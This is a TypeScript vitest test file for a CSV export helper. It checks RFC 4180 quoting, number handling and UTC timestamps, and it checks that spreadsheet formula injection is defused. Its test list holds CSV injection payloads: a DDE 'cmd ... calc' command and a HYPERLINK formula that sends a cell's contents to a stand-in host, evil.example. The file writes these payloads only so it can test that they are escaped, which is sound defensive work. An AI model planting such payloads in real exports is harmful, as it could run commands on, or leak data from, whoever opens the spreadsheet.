import { describe, expect, test } from "vitest";
import { cell, csv, stamp } from "./csv.ts";

describe("csv", () => {
  test("RFC 4180: quotes, commas, lines", () => {
    expect(csv(["a", "b"], [['he said "no"', "x,y"], ["two\nlines", ""]])).toBe('a,b\r\n"he said ""no""","x,y"\r\n"two\nlines",\r\n');
    expect(csv(["only"], [])).toBe("only\r\n");
  });

  test("numbers stay numbers, negative ones too", () => {
    for (const n of ["0.10000000", "-5", "51950.00000000", "12"]) expect(cell(n)).toBe(n);
    expect(cell(7n)).toBe("7");
  });

  test.each([
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", " =1", "\n=1", "\ufeff=1", "|calc", "%0A", "\uff1d1+1", "--5", "-5%", "+5", "-",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
  ])("what would be a formula is text: %j", (text) => {
    const got = cell(text);
    expect(got.replace(/^"/, "").startsWith("'")).toBe(true);
    // And nothing else of it is changed.
    const back = got.startsWith('"') ? got.slice(1, -1).replace(/""/g, '"') : got;
    expect(back).toBe("'" + text);
  });

  test("a quote cannot end its cell, nor a null byte", () => {
    expect(cell('","=1+1')).toBe('""",""=1+1"');
    expect(cell("a\0=1")).toBe("a=1");
    expect(cell("\0=1")).toBe("'=1");
  });

  test("times are UTC, and absent ones empty", () => {
    expect(stamp(1_790_000_000_000)).toBe("2026-09-21T14:13:20.000Z");
    expect(stamp(undefined)).toBe("");
    expect(stamp(NaN)).toBe("");
  });
});
